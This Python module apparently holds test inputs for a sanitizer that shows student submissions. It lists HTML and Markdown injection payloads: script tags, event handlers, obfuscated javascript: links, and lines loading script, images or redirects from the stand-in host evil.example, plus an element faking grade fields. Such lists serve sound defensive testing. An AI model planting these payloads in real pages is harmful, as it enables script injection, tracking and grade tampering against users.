"""Ways to make a page act that shows what a student wrote."""

import base64

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 20).decode()

HTML = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/seen.png>",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    f'<img src="data:image/png;base64,{PNG}" onload="alert(1)">',
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object><embed src=x>",
    "<form action=https://evil.example><button formaction=javascript:alert(1)>x</button></form>",
    "<style>body{background:url(https://evil.example/)}</style>",
    "<p style='background:url(https://evil.example/)'>x</p>",
    "<p style='position:fixed;top:0;left:0;width:100vw;height:100vh'>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css><base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<p id=notebook name=score class=full-credit>x</p>",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><script>alert(1)</script>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<p title='x' onclick=alert(1)>x</p>",
    "<details open ontoggle=alert(1)>x</details>",
    "<table background=https://evil.example/><td background=https://evil.example/>",
    r"<p>$\href{javascript:alert(1)}{x}$</p>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
]

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](https://evil.example/seen.png)",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`````html\n<script>alert(1)</script>",
    r"$\def\x{1}\href{https://evil.example}{x}$",
]
